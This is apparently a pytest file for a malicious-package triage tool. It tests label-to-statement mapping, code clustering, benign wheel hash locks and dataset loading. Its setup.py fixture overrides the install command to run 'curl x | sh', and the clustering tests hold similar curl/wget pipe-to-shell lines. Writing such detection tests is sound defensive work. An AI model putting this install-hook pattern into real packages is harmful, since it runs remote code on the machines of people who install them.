"""Ground truth onto statements, computed clusters, benign wheel locks and dataset loading."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import zipfile
from pathlib import Path

import pytest

from triage.errors import ArtifactError
from triage.evaluation import benign_wheels
from triage.evaluation.clusters import cluster_key, normalise_code
from triage.evaluation.corpus import Label
from triage.evaluation.datasets import DatasetSpec, load_dataset, resolve_dataset
from triage.evaluation.stmt_metrics import TruthStatement
from triage.evaluation.truth import (
    build_truths,
    package_truth,
    statement_spans,
    truth_from_json,
    truth_to_json,
)

SETUP = """\
import os
from setuptools import setup
from setuptools.command.install import install


class Evil(install):
    def run(self):
        os.system(
            "curl x | sh"
        )


setup(
    name="pkg",
    cmdclass={"install": Evil},
)
"""


def label(lines: tuple[int, ...], indicator: str, file: str = "pkg-1/setup.py") -> Label:
    return Label("pkg", "pkg/1/pkg-1.tar.gz", file, lines, indicator, indicator,
                 indicator.startswith("metadata_"))


def sdist(files: dict[str, str], top: str = "pkg-1") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{path}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_statement_spans_use_headers_for_compound_statements():
    assert statement_spans("setup.py", SETUP) == (
        (1, 1), (2, 2), (3, 3), (6, 6), (7, 7), (8, 10), (13, 16),
    )  # fmt: skip


def test_labels_map_to_covering_statements_and_merge_indicators():
    labels = (
        label((6, 7, 8, 9, 10), "code_execution_install_hook_override"),
        label((9,), "code_execution_shell_command"),
        label((11, 12, 13, 14, 15, 16), "metadata_description_anomaly"),
    )
    t = package_truth("pkg/1/pkg-1.tar.gz", "c", labels, {"pkg-1/setup.py": SETUP})
    assert t.labelled == (
        TruthStatement("pkg-1/setup.py", 6, 6, ("code_execution_install_hook_override",)),
        TruthStatement("pkg-1/setup.py", 7, 7, ("code_execution_install_hook_override",)),
        TruthStatement("pkg-1/setup.py", 8, 10, (
            "code_execution_install_hook_override", "code_execution_shell_command")),
        TruthStatement("pkg-1/setup.py", 13, 16, ("metadata_description_anomaly",)),
    )
    assert t.unmapped_lines == 2  # blank lines 11 and 12
    assert truth_from_json(json.loads(json.dumps(truth_to_json(t)))) == t


def test_unreadable_labelled_file_falls_back_to_one_statement_per_line():
    t = package_truth("a", "c", (label((4, 5), "code_execution_runtime"),), {})
    assert t.statements == {"pkg-1/setup.py": ((4, 4), (5, 5))}
    assert [s.key for s in t.labelled] == [("pkg-1/setup.py", 4, 4), ("pkg-1/setup.py", 5, 5)]


def test_build_truths_reads_only_labelled_archives():
    asked: list[tuple[str, frozenset[str]]] = []

    def reader(archive: str, wanted: frozenset[str]) -> dict[str, str]:
        asked.append((archive, wanted))
        return {"pkg-1/setup.py": SETUP}

    truths = build_truths(
        [("pkg/1/pkg-1.tar.gz", "c1", True), ("b.whl", "b.whl", False)],
        [label((13,), "metadata_description_anomaly")], reader)
    assert asked == [("pkg/1/pkg-1.tar.gz", frozenset({"pkg-1/setup.py"}))]
    assert [len(t.labelled) for t in truths] == [1, 0]
    assert truths[1].malicious is False


def test_cluster_key_ignores_literals_layout_and_version_directory():
    a = sdist({"setup.py": "import os\nos.system('curl a | sh')  # x\nN = 1\n"}, "a-1")
    b = sdist({"setup.py": "import os\n\nos.system(\"wget b\")\nN = 22\n"}, "b-2.0")
    c = sdist({"setup.py": "import os\nos.popen('curl a | sh')\nN = 1\n"}, "a-1")
    assert cluster_key(a, "a-1.tar.gz") == cluster_key(b, "b-2.0.tar.gz")
    assert cluster_key(a, "a-1.tar.gz") != cluster_key(c, "a-1.tar.gz")
    assert len(cluster_key(a, "a-1.tar.gz")) == 12
    assert cluster_key(b"not an archive", "x.tar.gz") == hashlib.sha256(
        b"x.tar.gz").hexdigest()[:12]
    assert normalise_code("x = 'a' 'b' + f'{y}'\n") == "x = S + S"


def test_cluster_key_reads_zip_content_named_tar_gz():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("m.py", "print('hi')\n")
    data = buf.getvalue()
    assert cluster_key(data, "m-1-py3-none-any.tar.gz") != hashlib.sha256(
        b"m-1-py3-none-any.tar.gz").hexdigest()[:12]


def test_benign_lock_round_trip_and_hash_mismatch(tmp_path: Path):
    pins_file = tmp_path / "benign.txt"
    pins_file.write_text("# pins\nsix==1.17.0\nattrs==26.1.0  # comment\n")
    pins = benign_wheels.read_pins(pins_file)
    assert pins == (benign_wheels.Pin("six", "1.17.0"), benign_wheels.Pin("attrs", "26.1.0"))
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "six-1.17.0-py2.py3-none-any.whl").write_bytes(b"six wheel")
    lock = tmp_path / "benign.lock"
    benign_wheels.write_lock(lock, pins, wheels)
    digest = hashlib.sha256(b"six wheel").hexdigest()
    assert benign_wheels.read_lock(lock) == {"six==1.17.0": frozenset({digest})}
    found, missing = benign_wheels.verified_wheels(pins, benign_wheels.read_lock(lock), wheels)
    assert found == {"benign/six-1.17.0-py2.py3-none-any.whl":
                     wheels / "six-1.17.0-py2.py3-none-any.whl"}
    assert missing == {"attrs==26.1.0": "no wheel downloaded"}
    (wheels / "six-1.17.0-py2.py3-none-any.whl").write_bytes(b"tampered")
    _, missing = benign_wheels.verified_wheels(pins, benign_wheels.read_lock(lock), wheels)
    assert missing["six==1.17.0"] == (
        "sha256 of six-1.17.0-py2.py3-none-any.whl does not match the lock")


def corpus_dir(tmp_path: Path) -> Path:
    root = tmp_path / "corpus"
    root.mkdir()
    with zipfile.ZipFile(root / "malicious-t.zip", "w") as zf:
        zf.writestr("malregistry/pkg/1/pkg-1.tar.gz", sdist({"setup.py": SETUP}))
        zf.writestr("malregistry/q/2/q-2.tar.gz", sdist({"setup.py": SETUP}, "q-2"))
    row = {"package": "pkg", "archive": "pkg/1/pkg-1.tar.gz", "file": "pkg-1/setup.py",
           "lines": [8], "indicator": "code_execution_shell_command", "note": ""}
    (root / "labels-t.jsonl").write_text(json.dumps(row) + "\n")
    return root


def test_dataset_from_corpus_directory_computes_clusters_when_csv_absent(tmp_path: Path):
    spec = resolve_dataset(str(corpus_dir(tmp_path)))
    assert (spec.name, spec.clusters, spec.benign) == ("corpus", "", "")
    assert spec.labels.endswith("labels-t.jsonl")
    data = load_dataset(spec)
    keys = [p.archive for p in data.packages]
    assert keys == ["pkg/1/pkg-1.tar.gz", "q/2/q-2.tar.gz"]
    assert data.packages[0].cluster == data.packages[1].cluster  # same code, other names
    assert [lb.indicator for lb in data.labels] == ["code_execution_shell_command"]
    assert data.read_sources("pkg/1/pkg-1.tar.gz", frozenset({"pkg-1/setup.py"})) == {
        "pkg-1/setup.py": SETUP}
    assert DatasetSpec.from_json(spec.to_json()) == spec


def test_dataset_from_directory_of_archives_with_limit(tmp_path: Path):
    (tmp_path / "x").mkdir()
    (tmp_path / "x" / "a-1.tar.gz").write_bytes(sdist({"a.py": "a = 1\n"}, "a-1"))
    (tmp_path / "b-1.tar.gz").write_bytes(sdist({"b.py": "b = 1\n"}, "b-1"))
    (tmp_path / "notes.txt").write_text("ignored")
    data = load_dataset(resolve_dataset(str(tmp_path), limit=1))
    assert [p.archive for p in data.packages] == ["b-1.tar.gz"]
    assert data.read("b-1.tar.gz") == (tmp_path / "b-1.tar.gz").read_bytes()


def test_missing_dataset_is_an_artifact_error(tmp_path: Path):
    with pytest.raises(ArtifactError, match="dataset not found"):
        resolve_dataset(str(tmp_path / "nope"))
